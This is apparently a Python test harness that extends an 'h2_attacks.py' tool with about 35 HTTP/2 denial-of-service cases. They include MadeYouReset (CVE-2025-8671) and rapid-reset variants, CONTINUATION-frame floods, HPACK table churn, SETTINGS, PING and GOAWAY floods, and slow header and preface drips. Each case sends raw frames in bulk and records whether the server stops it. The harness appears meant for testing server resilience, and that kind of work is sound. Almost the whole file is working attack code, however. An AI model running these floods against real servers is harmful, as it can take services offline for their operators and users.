#!/usr/bin/env python3
"""Neighbours of the cases of h2_attacks.py, judged in the same way. Options are those of h2_attacks.py."""
import struct
import time

import h2_attacks
from h2_attacks import alive, batches, pump
from h2raw import *

R = []


def case(f):
    R.append(f)
    return f


def get(stream, path=b'/slow?ms=200'):
    return frame(HEADERS, 5, stream, req(path))


def made_to_reset(a, h, what):
    """CVE-2025-8671: each stream is ended by the proxy, which the peer makes it do."""
    return pump(h, batches(lambda j: what(2 * j + 1), 50000), a.secs), 'streams', 128, 'stop'


@case
def made_you_reset_window_overflow(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(WINUP, 0, s, b'\x7f\xff\xff\xff'))
@case
def made_you_reset_data_after_end(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(DATA, 0, s, b'x'))
@case
def made_you_reset_headers_after_end(a, h):
    return made_to_reset(a, h, lambda s: get(s) + get(s))
@case
def made_you_reset_priority_on_itself(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(PRIORITY, 0, s, struct.pack('>IB', s, 5)))
@case
def made_you_reset_priority_length(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(PRIORITY, 0, s, b'\0\0'))
@case
def made_you_reset_length_wrong(a, h):
    return made_to_reset(a, h, lambda s: frame(HEADERS, 4, s, req(b'/slow?ms=200', b'POST', extra=[(b'content-length', b'1')])) + frame(DATA, 1, s, b'xx'))
@case
def made_you_reset_malformed(a, h):
    return made_to_reset(a, h, lambda s: frame(HEADERS, 5, s, req() + lit(b'X', b'y')))
@case
def rapid_reset_after_data(a, h):
    return made_to_reset(a, h, lambda s: frame(HEADERS, 4, s, req(b'/slow?ms=200', b'POST')) + frame(DATA, 0, s, b'x') + frame(RST, 0, s, b'\0\0\0\x08'))
@case
def rapid_reset_refused(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(RST, 0, s, b'\0\0\0\x07'))
@case
def rapid_reset_of_unfinished_requests(a, h):
    return made_to_reset(a, h, lambda s: frame(HEADERS, 4, s, req(b'/', b'POST')) + frame(RST, 0, s, b'\0\0\0\x08'))
@case
def reset_twice(a, h):
    return made_to_reset(a, h, lambda s: get(s) + frame(RST, 0, s, b'\0\0\0\x08') * 2)
@case
def continuation_of_one_byte(a, h):
    def g():
        yield 1, frame(HEADERS, 1, 1, b'')
        block = req() + lit(b'x', b'y' * 20000)
        for at in range(0, len(block), 100):
            yield 100, b''.join(frame(CONT, 0, 1, block[i:i + 1]) for i in range(at, min(at + 100, len(block))))
    return pump(h, g(), a.secs), 'frames', 64, 'stop'
@case
def continuation_of_trailers(a, h):
    def g():
        yield 1, frame(HEADERS, 4, 1, req(b'/', b'POST')) + frame(HEADERS, 1, 1, b'')
        while True:
            yield 100, frame(CONT, 0, 1, lit(b'x', b'y' * 100)) * 100
    return pump(h, g(), a.secs), 'frames', 64, 'stop'
@case
def continuation_of_a_refused_stream(a, h):
    def g():
        yield 1, frame(HEADERS, 1, 1, lit(b':bad', b'x'))
        while True:
            yield 100, frame(CONT, 0, 1, lit(b'x', b'y' * 100)) * 100
    return pump(h, g(), a.secs), 'frames', 64, 'stop'
@case
def table_size_back_and_forth(a, h):
    def g():
        for j in range(100000):
            yield 1, frame(HEADERS, 5, 2 * j + 1, b'\x20\x3f\xe1\x1f' * 1 + req())
    return pump(h, g(), a.secs), 'requests', 64, 'any'
@case
def table_churn(a, h):
    def g():
        for j in range(100000):
            block = b''.join(lit(b'x-%d' % (k % 50), b'v' * 60, True) for k in range(90))
            yield 1, frame(HEADERS, 5, 2 * j + 1, req() + block)
    return pump(h, g(), a.secs), 'requests', 64, 'any'
@case
def cookie_crumbs(a, h):
    def g():
        for j in range(1000):
            yield 1, frame(HEADERS, 5, 2 * j + 1, req() + lit(b'cookie', b'a=b') * 1000)
    return pump(h, g(), a.secs), 'requests', 64, 'reject'
@case
def settings_of_many_parameters(a, h):
    return pump(h, batches(lambda j: frame(SETTINGS, 0, 0, b'\0\x04\0\0\xff\xff' * 2700), 10**6, 5), a.secs), 'frames', 64, 'stop'
settings_of_many_parameters.noread = True
@case
def window_size_back_and_forth(a, h):
    pump(h, batches(lambda j: get(2 * j + 1, b'/big?n=1000000'), 100, 50), a.secs)
    change = lambda j: frame(SETTINGS, 0, 0, b'\0\x04' + struct.pack('>I', 0 if j % 2 else 1))
    return pump(h, batches(change, 10**6, 100), a.secs), 'frames', 64, 'stop'
@case
def window_of_one_byte(a, h):
    h.send(frame(SETTINGS, 0, 0, b'\0\x04\0\0\0\0'))
    for k in range(50): h.send(get(2 * k + 1, b'/big?n=1000000'))
    crumb = lambda j: b''.join(frame(WINUP, 0, 2 * k + 1, b'\0\0\0\x01') for k in range(50))
    return pump(h, batches(crumb, 10**6, 10), a.secs), 'rounds', 64, 'any'
@case
def zero_window_of_the_connection(a, h):
    h.send(frame(SETTINGS, 0, 0, b'\0\x04\x7f\xff\xff\xff'))
    for k in range(20): h.send(get(2 * k + 1, b'/big?n=1000000'))
    t = time.time(); h.wait(lambda: not alive(h), min(a.secs * 5, 25))
    return round((time.time() - t) * 1000), 'ms until stopped', 64, 'any'
@case
def padding_alone(a, h):
    h.send(frame(HEADERS, 4, 1, req(b'/', b'POST')))
    return pump(h, batches(lambda j: frame(DATA, 8, 1, b'\xff' + b'\0' * 255), 10**6, 100), a.secs), 'frames', 64, 'stop'
@case
def data_on_closed_streams(a, h):
    h.send(get(1, b'/')); h.wait(lambda: 1 in h.ended, 2)
    return pump(h, batches(lambda j: frame(DATA, 0, 1, b'x' * 100), 10**6, 100), a.secs), 'frames', 64, 'stop'
@case
def data_on_an_idle_stream(a, h):
    return pump(h, batches(lambda j: frame(DATA, 0, 9, b'x'), 1000, 100), a.secs), 'frames', 64, 'stop'
@case
def goaway_flood(a, h):
    return pump(h, batches(lambda j: frame(GOAWAY, 0, 0, b'\0' * 8), 10**6, 100), a.secs), 'frames', 64, 'any'
@case
def ping_of_wrong_length(a, h):
    return pump(h, batches(lambda j: frame(PING, 0, 0, b'x'), 1000, 10), a.secs), 'frames', 64, 'stop'
@case
def push_promise(a, h):
    return pump(h, batches(lambda j: frame(PUSH, 4, 1, b'\0\0\0\x02' + req()), 1000, 10), a.secs), 'frames', 64, 'stop'
@case
def headers_on_an_even_stream(a, h):
    return pump(h, batches(lambda j: get(2 * j + 2), 1000, 10), a.secs), 'frames', 64, 'stop'
@case
def ping_acknowledgements(a, h):
    return pump(h, batches(lambda j: frame(PING, 1, 0, b'12345678'), 10**7, 300), a.secs), 'frames', 64, 'any'
@case
def settings_acknowledgements(a, h):
    return pump(h, batches(lambda j: frame(SETTINGS, 1, 0), 10**7, 300), a.secs), 'frames', 64, 'any'
@case
def header_drip(a, h):
    t = time.time(); block = req() + lit(b'x', b'y' * 100); h.send(frame(HEADERS, 1, 1, b''))
    for at in range(len(block)):
        if not alive(h) or time.time() - t > a.hold: break
        h.send(frame(CONT, 0, 1, block[at:at + 1])); time.sleep(0.2)
    h.wait(lambda: not alive(h), 0.5)
    return round(time.time() - t, 1), 's until closed', 64, 'stop'
@case
def preface_drip(a, h):
    s = socket.create_connection((a.host, a.port), 5); s.settimeout(0.3); t = time.time(); gone = False
    for byte in (b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' if a.plain else b'\x16\x03\x01\x02\x00' + b'\x01' * 20):
        try:
            s.sendall(bytes([byte])); gone = s.recv(1000) == b''
        except TimeoutError: pass
        except OSError: gone = True
        if gone or time.time() - t > a.hold: break
    # The connection of the frame is not looked at.
    h.closed = gone
    return round(time.time() - t, 1), 's until closed', 64, 'stop'


if __name__ == '__main__':
    h2_attacks.R[:] = R
    h2_attacks.main()
